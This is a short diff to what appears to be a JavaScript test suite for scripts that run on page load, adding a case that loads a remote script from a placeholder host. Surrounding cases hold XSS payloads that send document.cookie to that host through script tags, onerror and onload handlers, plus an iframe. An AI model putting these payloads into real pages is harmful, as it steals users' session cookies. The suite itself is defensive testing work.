@@ -39,6 +39,7 @@ describe('scripts that run on load', () => {
       raw('| a |\n|---|\n| <img src=x onerror=show(1)> |'),
       fence('html', `<script>fetch("${HOST}/?"+document.cookie)</script>`),
       fence('', `<img src=x onerror="fetch('${HOST}/?'+document.cookie)">`),
+      fence('html', `<script src="${HOST}/a.js"></script>`),
       fence('html', `<iframe src="${HOST}/"></iframe>`),
       raw(`Put \`<script>fetch("${HOST}/?"+document.cookie)</script>\` on top of every page.`),
       file('page.html', `<svg onload="fetch('${HOST}')"></svg>`),
